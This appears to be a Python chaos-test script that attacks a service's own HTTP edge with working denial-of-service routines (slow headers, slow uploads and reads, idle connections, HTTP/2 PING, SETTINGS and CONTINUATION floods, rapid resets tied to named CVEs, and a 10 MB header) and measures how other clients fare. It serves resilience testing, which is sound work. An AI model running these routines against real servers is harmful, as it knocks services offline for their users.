"""Clients that are slow, rude or hostile to HTTP, while others call as usual: what the others still get."""

import signal
import sys
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from typing import Any

import gevent
import gevent.event
import gevent.socket
from hpack import Encoder
from hyperframe import frame as frames

from chaos import docker
from chaos.load import Call, Target, aside, edge_of, errors, good, offered, times
from locustfiles.clients import key
from locustfiles.clients.http2 import PREFACE
from locustfiles.clients.sockets import connect

OTHERS = ("jpeg-http", "onnx-grpc")
OTHERS_PER_S = 10.0
CALM_S = 6.0
BEGUN_S = 2.0
"""An attack has begun by then, and is over."""

Rude = Callable[[gevent.socket.socket], None]
"""What one connection does, until it is closed; raises OSError then."""


def slow_upload(size: int, connection: gevent.socket.socket) -> None:
    """A byte per half second of a body of this size."""
    connection.sendall(_head("POST", "/classify", f"content-type: image/jpeg\r\ncontent-length: {size}\r\n"))
    while True:
        connection.sendall(b"\xff")
        gevent.sleep(0.5)


def slow_headers(connection: gevent.socket.socket) -> None:
    """A header line per second, without an end."""
    connection.sendall(b"POST /classify HTTP/1.1\r\nhost: edge\r\n")
    while True:
        connection.sendall(b"x-more: 1\r\n")
        gevent.sleep(1)


def slow_read(connection: gevent.socket.socket) -> None:
    """Large answers are asked for, 16 at once, and never read."""
    connection.sendall(16 * _head("GET", "/docs/assets/swagger-ui-bundle.js"))
    while True:
        gevent.sleep(1)
        connection.sendall(b"\r\n")


def idle(connection: gevent.socket.socket) -> None:
    """Nothing is sent, until the server closes."""
    while connection.recv(65_536):
        pass
    raise ConnectionResetError


def pings(connection: gevent.socket.socket) -> None:
    """PING frames without a pause."""
    _flood(connection, frames.PingFrame(opaque_data=b"fiveway!").serialize())


def settings(connection: gevent.socket.socket) -> None:
    """SETTINGS frames without a pause (CVE-2019-9515)."""
    _flood(connection, frames.SettingsFrame(settings={3: 100}).serialize())


def resets(connection: gevent.socket.socket) -> None:
    """Requests that are reset at once (CVE-2023-44487)."""
    connection.sendall(PREFACE + frames.SettingsFrame().serialize())
    encoder, number = Encoder(), 1
    about = [(":method", "GET"), (":scheme", "http"), (":path", "/served"), (":authority", "edge"), *key().items()]
    while True:
        pieces = []
        for _ in range(50):
            block = encoder.encode(about)
            headers = frames.HeadersFrame(number, data=block, flags=["END_HEADERS", "END_STREAM"])
            pieces += [headers.serialize(), frames.RstStreamFrame(number, 8).serialize()]
            number += 2
        connection.sendall(b"".join(pieces))
        gevent.sleep(0)


def continuations(connection: gevent.socket.socket) -> None:
    """A header block without an end, in CONTINUATION frames (CVE-2024-27316)."""
    connection.sendall(PREFACE + frames.SettingsFrame().serialize())
    connection.sendall(frames.HeadersFrame(1, data=b"\x82").serialize())
    more = frames.ContinuationFrame(1, data=b"\x00\x01x\x01y" * 1000).serialize()
    while True:
        connection.sendall(more)
        gevent.sleep(0)


def header_bomb(connection: gevent.socket.socket) -> None:
    """One HTTP/1.1 header of 10 MB, again on a new connection when it is refused."""
    connection.sendall(b"GET / HTTP/1.1\r\nhost: edge\r\nx-large: ")
    for _ in range(10):
        connection.sendall(b"x" * 1_000_000)
        gevent.sleep(0)
    idle(connection)


ATTACKS: Mapping[str, tuple[Rude, int]] = {
    "slow uploads of 100 kB": (partial(slow_upload, 100_000), 500),
    "slow uploads of 10 MB": (partial(slow_upload, 10_000_000), 500),
    "slow headers": (slow_headers, 500),
    "answers that nobody reads": (slow_read, 100),
    "idle connections": (idle, 2_000),
    "PING flood": (pings, 4),
    "SETTINGS flood": (settings, 4),
    "rapid resets": (resets, 4),
    "CONTINUATION flood": (continuations, 4),
    "header of 10 MB": (header_bomb, 4),
}
"""By name: what each connection does, and how many there are at once. One that the server closes is opened again."""


def _head(method: str, path: str, more: str = "") -> bytes:
    known = "".join(f"{name}: {value}\r\n" for name, value in key().items())
    return f"{method} {path} HTTP/1.1\r\nhost: edge\r\n{known}{more}\r\n".encode()


def _flood(connection: gevent.socket.socket, frame: bytes) -> None:
    connection.sendall(PREFACE + frames.SettingsFrame().serialize())
    several = frame * 200
    while True:
        connection.sendall(several)
        gevent.sleep(0)


def rows(routes: Mapping[str, Target], *, seconds: float, only: str) -> Iterator[dict[str, Any]]:
    """One row per attack whose name holds `only`.

    `closed`: connections that the server closed. `others`: per route, the share of calls that were answered, their p50
    over the one without the attack, and errors. `mib`: the most memory of the edge.
    """
    for name, (_, count) in ATTACKS.items():
        if only not in name:
            continue
        before = _others(routes, CALM_S)
        with aside("chaos.rude", name, edge_of(routes)) as attackers:
            gevent.sleep(BEGUN_S)
            memory = gevent.spawn(docker.memory_mib)
            during = _others(routes, seconds)
            attackers.terminate()
            closed = int(attackers.communicate()[0])
        gevent.sleep(BEGUN_S)
        yield {
            "attack": name,
            "connections": count,
            "closed": closed,
            "others": {
                one: {
                    "rate": round(len(good(calls)) / len(calls), 3),
                    "p50": times(calls, before[one]),
                    "errors": errors(calls),
                }
                for one, calls in during.items()
            },
            "mib": memory.get(),
        }


def _attack(rude: Rude, host: str, closed: Counter[str]) -> None:
    while True:
        try:
            connection = connect(host)
            try:
                rude(connection)
            finally:
                connection.close()
        except OSError as error:
            closed[type(error).__name__] += 1
        gevent.sleep(0.1)


def main() -> None:
    """Attack until told to stop; then print how many connections the server closed."""
    name, host = sys.argv[1:]
    rude, count = ATTACKS[name]
    closed: Counter[str] = Counter()
    over = gevent.event.Event()
    gevent.signal_handler(signal.SIGTERM, over.set)
    attackers = [gevent.spawn(_attack, rude, host, closed) for _ in range(count)]
    over.wait()
    gevent.killall(attackers)
    print(closed.total())


def _others(routes: Mapping[str, Target], seconds: float) -> dict[str, list[Call]]:
    calls = offered({routes[name]: OTHERS_PER_S for name in OTHERS if name in routes}, seconds)
    return {name: [call for call in calls if call.route == name] for name in OTHERS if name in routes}


if __name__ == "__main__":
    main()
